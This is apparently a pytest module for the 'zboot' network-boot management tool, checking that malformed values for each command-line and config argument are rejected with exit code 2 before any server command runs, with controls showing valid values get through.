        "clone --hosts TOML: initiator",
        ("clone", "hosts_file"),
        read_back(optional(IQN), False),
        valid_iqn(),
        IQN_GOOD,
        hosts_toml("initiator"),
        IQN_BAD,
    ),
    # CHAP kinds in a hosts file
    Case(
        "clone --hosts CSV: chap",
        ("clone", "hosts_file"),
        read_back(CHAP, True),
        st.sampled_from(CHAP_KINDS),
        "mutual",
        hosts_csv("chap"),
        WORD_BAD,
    ),
    Case(
        "clone --hosts TOML: chap",
        ("clone", "hosts_file"),
        read_back(CHAP, False),
        st.sampled_from(CHAP_KINDS),
        "mutual",
        hosts_toml("chap"),
        WORD_BAD,
    ),
    # sizes
    Case(
        "clone --data-disk",
        ("clone", "data_disk"),
        SIZE,
        VALID_SIZE,
        "1G",
        clone("--mac", GOOD_MAC, "--data-disk={}", "--", "golden", "pc01"),
        SIZE_BAD,
    ),
    Case(
        "image create --size",
        ("image create", "size"),
        SIZE,
        VALID_SIZE,
        "1G",
        lambda v, p: p.cli("image", "create", f"--size={v}", "--", "golden"),
        SIZE_BAD,
    ),
    Case(
        "image create --volblocksize",
        ("image create", "volblocksize"),
        SIZE,
        VALID_SIZE,
        "16K",
        lambda v, p: p.cli(
            "image", "create", "--size", "1G", f"--volblocksize={v}", "--", "golden"
        ),
        SIZE_BAD,
    ),
    Case(
        "image import --size",
        ("image import", "size"),
        SIZE,
        VALID_SIZE,
        "1G",
        lambda v, p: p.cli(
            "image", "import", "--format", "raw", f"--size={v}", "--", "golden", disk(p)
        ),
        SIZE_BAD,
    ),
    # other names and words
    Case(
        "image create --compression",
        ("image create", "compression"),
        COMPRESSION,
        VALID_COMPRESSION,
        "lz4",
        lambda v, p: p.cli("image", "create", "--size", "1G", f"--compression={v}", "--", "golden"),
        COMPRESSION_BAD,
    ),
    Case(
        "image import --format",
        ("image import", "format"),
        optional(IMAGE_FORMAT),
        st.sampled_from(IMAGE_FORMATS),
        "raw",
        lambda v, p: p.cli("image", "import", f"--format={v}", "--", "golden", disk(p)),
        WORD_BAD,
    ),
    Case(
        "image snapshot --message",
        ("image snapshot", "message"),
        MESSAGE,
        st.just("monthly updates"),
        "monthly updates",
        lambda v, p: p.cli("image", "snapshot", f"--message={v}", "--", "golden"),
        values=MESSAGES,
    ),
    Case(
        "commit --message",
        ("commit", "message"),
        MESSAGE,
        st.just("monthly updates"),
        "monthly updates",
        lambda v, p: p.cli("commit", f"--message={v}", "--", "pc09"),
        values=MESSAGES,
    ),
    Case(
        "mode --message",
        ("mode", "message"),
        MESSAGE,
        st.just("monthly updates"),
        "monthly updates",
        lambda v, p: p.cli("mode", f"--message={v}", "--", *p.hosts("pc09"), "normal"),
        values=MESSAGES,
    ),
    *(
        Case(
            f"{flag} HOST... on|off",
            (flag, "hosts"),
            HOST_NAME,
            HOST,
            "pc01",
            switch_argv(flag, host=None),
            HOST_BAD,
        )
        for flag in ("ephemeral", "keep")
    ),
    *(
        Case(
            f"{flag} HOST... on|off (the switch)",
            (flag, "value"),
            SWITCH,
            st.sampled_from(("on", "off")),
            "off",
            switch_argv(flag, host="pc09"),
            WORD_BAD,
        )
        for flag in ("ephemeral", "keep")
    ),
    Case(
        "reset HOST...",
        ("reset", "hosts"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: p.cli("reset", "--yes", "--", *p.hosts(v)),
        HOST_BAD,
    ),
    Case(
        "mode --winpe",
        ("mode", "winpe"),
        URL,
        VALID_URL,
        WINPE_GOOD,
        lambda v, p: p.cli("mode", f"--winpe={v}", "--", *p.hosts("pc09"), "install"),
        URL_BAD,
    ),
    Case(
        "mode MODE",
        ("mode", "new_mode"),
        MODE,
        st.sampled_from(MODES),
        "normal",
        lambda v, p: p.cli("mode", "--", *p.hosts("pc09"), v),
        WORD_BAD,
    ),
    Case(
        "dhcp --format",
        ("dhcp", "fmt"),
        DHCP_FORMAT,
        st.sampled_from(DHCP_FORMATS),
        "dnsmasq",
        lambda v, p: p.cli("dhcp", f"--format={v}"),
        WORD_BAD,
    ),
    Case(
        "dhcp --tftp-server",
        ("dhcp", "tftp_server"),
        ADDRESS,
        VALID_ADDRESS,
        "10.0.0.1",
        lambda v, p: p.cli("dhcp", f"--tftp-server={v}"),
        ADDRESS_BAD,
    ),
    Case(
        "dhcp --router",
        ("dhcp", "router"),
        ADDRESS,
        VALID_ADDRESS,
        "10.0.0.254",
        lambda v, p: p.cli("dhcp", f"--router={v}"),
        ADDRESS_BAD,
    ),
    Case(
        "--server",
        ("", "server"),
        SERVER,
        VALID_SERVER,
        "admin@storage.lan",
        lambda v, p: p.cli(f"--server={v}", "list"),
        SERVER_BAD,
    ),
    Case(
        "config [zfs] pool",
        ("", "config"),
        DATASET,
        VALID_DATASET,
        "tank",
        config_with("pool"),
        DATASET_BAD,
    ),
    Case(
        "config [zfs] root",
        ("", "config"),
        DATASET,
        VALID_DATASET,
        "tank/zboot",
        config_with("root"),
        DATASET_BAD,
    ),
]

# zboot adopt: MACs, the image, the name pattern
CASES += [
    Case(
        "adopt MAC...",
        ("adopt", "macs"),
        MAC,
        valid_mac(),
        GOOD_MAC,
        lambda v, p: p.cli("adopt", "--image", "golden", "--", GOOD_MAC, v),
        MAC_BAD,
    ),
    Case(
        "adopt --image",
        ("adopt", "image"),
        image_spec(),
        COMPONENT,
        "golden",
        lambda v, p: p.cli("adopt", f"--image={v}", "--", GOOD_MAC),
        COMPONENT_BAD,
    ),
    Case(
        "adopt --names",
        ("adopt", "names"),
        validator(names.name_pattern),
        st.sampled_from(["pc{n:02}", "lab-{n}", "pc{n:03}x", "{n}a", "Room4-{n:1}"]),
        "lab{n:02}",
        lambda v, p: p.cli("adopt", "--image", "golden", f"--names={v}", "--", GOOD_MAC),
        ("pc{n", "pc{m}", "pc{n:07}", "pc{n}{n}", "-pc{n}", "pc {n}", "pc{n}\n", "a" * 62 + "{n}"),
    ),
]

# Text arguments that are not names zboot checks, and why.
NOT_NAMES = {
    ("dhcp", "write"): "a file on this machine that the admin has the config written to",
    ("image import", "source"): "a file or device on this machine (or - for stdin) to read",
    ("pxelinux", "tftp_dir"): "a directory on the server, passed as one argv element",
    # init's options are config keys, checked by the file's own rules (config.KEYS):
    # hostile values in test_init_command.py and test_config_hostile.py
    **{
        ("init", option): "a config value, checked as the config file's"
        for option in (
            *("server", "pool", "root", "reserve", "portal", "boot_url", "engine"),
            *("iqn_base", "secrets_dir", "boot_dir", "winpe", "scripts", "key", "known_hosts"),
        )
    },
}

# Validators in zboot.names that check no input of their own.
DERIVED = {
    "mac_hexhyp": "mac() in another spelling, for MACs mac() has checked",
    "pattern_name": "the n-th name of a pattern name_pattern() has checked",
}


# --- the checks -------------------------------------------------------------------


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Place:
    work = tmp_path_factory.mktemp("hostile")
    (work / "zboot.toml").write_text(CONFIG)
    return Place(work / "zboot.toml", work)


def refused_before_server(args: list[str]) -> None:
    code, stdout, server = zboot(args)
    assert server.spawned == [], args
    assert server.commands == [], f"{args!r} ran {server.commands!r}"
    assert server.file_ops == [] and server.files == {}, args
    assert code == 2, (args, code, stdout)
    envelope: dict[str, Any] = json.loads(stdout)
    ENVELOPE.validate(envelope)
    assert envelope["status"] == "error" and envelope["exit_code"] == 2
    assert envelope["errors"], envelope
    assert all(e["kind"] == "invalid-input" for e in envelope["errors"]), envelope


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_value_exits_2_and_runs_nothing(case: Case, place: Place) -> None:
    ran: list[str] = []
    neighbours = st.lists(st.sampled_from(GOOD_HOSTS), max_size=2).map(tuple)

    @HOSTILE
    @given(value=case.strategy(), before=neighbours, after=neighbours)
    def check(value: str, before: tuple[str, ...], after: tuple[str, ...]) -> None:
        assume(case.rule.rejects(value))
        refused_before_server(case.argv(value, Place(place.config, place.work, before, after)))
        ran.append(value)

    check()
    assert len(ran) >= EXAMPLES, f"only {len(ran)} hostile values ran for {case.id}"


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_valid_value_reaches_the_server(case: Case, place: Place) -> None:
    """The control: with a valid value the same command line gets as far as the
    server, so the hostile runs' exit 2 is the hostile value's doing."""
    assert not case.rule.rejects(case.good)
    code, stdout, server = zboot(case.argv(case.good, place))
    assert server.commands or server.file_ops, (case.id, code, stdout)


def takes_text(hint: Any) -> bool:
    """Does a parameter annotated with hint take text or a file name?"""
    if typing.get_origin(hint) is typing.Annotated:
        hint = typing.get_args(hint)[0]
    parts = [hint]
    if typing.get_origin(hint) in (typing.Union, types.UnionType):
        parts = [a for a in typing.get_args(hint) if a is not type(None)]
    leaves = [typing.get_args(p)[0] if typing.get_origin(p) is list else p for p in parts]
    return any(leaf in (str, Path) for leaf in leaves)


def text_parameters(t: typer.Typer, prefix: str = "") -> set[tuple[str, str]]:
    """(command, parameter) for every parameter of every command (and of the
    global options, command "") that takes text or a file."""
    callbacks: list[tuple[str, Callable[..., Any]]] = []
    if not prefix and t.registered_callback is not None:
        assert t.registered_callback.callback is not None
        callbacks.append(("", t.registered_callback.callback))
    for command in t.registered_commands:
        assert command.name and command.callback, command
        callbacks.append((prefix + command.name, command.callback))
    found = {
        (name, param)
        for name, callback in callbacks
        for param, hint in typing.get_type_hints(callback, include_extras=True).items()
        if param != "return" and takes_text(hint)
    }
    for group in t.registered_groups:
        assert group.name and group.typer_instance, group
        found |= text_parameters(group.typer_instance, f"{prefix}{group.name} ")
    return found


def test_every_text_argument_is_classified() -> None:
    params = text_parameters(app)
    covered = {c.feeds for c in CASES}
    assert params == covered | set(NOT_NAMES)
    assert not covered & set(NOT_NAMES)
    assert len(params) >= 30, params  # the walk did find the commands


def test_every_validator_in_names_has_cases() -> None:
    # the functions; HostName and the other checked-value types are what they return
    validators = {n for n in names.__all__ if callable(getattr(names, n)) and n[0].islower()}
    used = {n for c in CASES for n in c.rule.uses}
    assert used == validators - set(DERIVED)
    assert set(DERIVED) <= validators
